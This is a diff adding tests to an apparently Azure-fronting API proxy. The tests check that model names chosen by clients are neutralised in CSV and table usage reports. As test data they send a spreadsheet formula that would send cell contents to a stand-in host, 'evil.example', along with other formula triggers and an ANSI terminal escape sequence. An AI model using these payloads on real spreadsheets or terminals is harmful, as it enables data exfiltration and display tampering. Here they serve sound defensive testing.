@@ -243,3 +243,48 @@ describe("budgets and the SQLite ledger (state.path)", () => {
     expect((JSON.parse(after.stdout) as { totals: { requests: number } }).totals.requests).toBe(ok);
   });
 });
+
+describe("names a client chose (any_model) in the report", () => {
+  // the environment-only config sends any model to the deployment of the same name, so a
+  // client writes the model column; Azure's 404 for it is still a call in the ledger
+  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+  const ESCAPED = "red\u001b[31mX\u009b2J";
+  let proxy: RunningProxy;
+  let file: string;
+  beforeAll(async () => {
+    const path = join(dir, "chosen.db");
+    file = configFile({
+      upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o" }, any_model: true }],
+      keys: [
+        { name: "ops", key: ADMIN, admin: true },
+        { name: "team", key: TEAM },
+      ],
+      state: { path },
+    }).path;
+    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
+    for (const model of [FORMULA, "-2+3", "@SUM(1)", ESCAPED]) {
+      const response = await chat(proxy, TEAM, "chosen", { model });
+      expect(response.status).toBe(404);
+      await response.arrayBuffer();
+    }
+  });
+  afterAll(async () => {
+    await proxy.stop();
+  });
+
+  test("CSV: a field a spreadsheet would run as a formula starts with an apostrophe, and stays one quoted field", async () => {
+    const csv = await (await report(proxy, "?by=model&format=csv")).text();
+    const fields = csv.trim().split("\n").slice(1).map((line) => line.slice(0, line.lastIndexOf(",1,0,0,0,0,0")));
+    expect(fields.sort()).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`, "'-2+3", "'@SUM(1)", ESCAPED].sort());
+    for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@]/);
+  });
+
+  test("table: control characters in a name are shown as \\u escapes, never sent to the terminal", async () => {
+    await proxy.stop();
+    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
+    const out = await runProxyCommand(["usage", "--config", file, "--by", "model"]);
+    expect(out.code).toBe(0);
+    expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(out.stdout).toContain("red\\u001b[31mX\\u009b2J");
+  });
+});
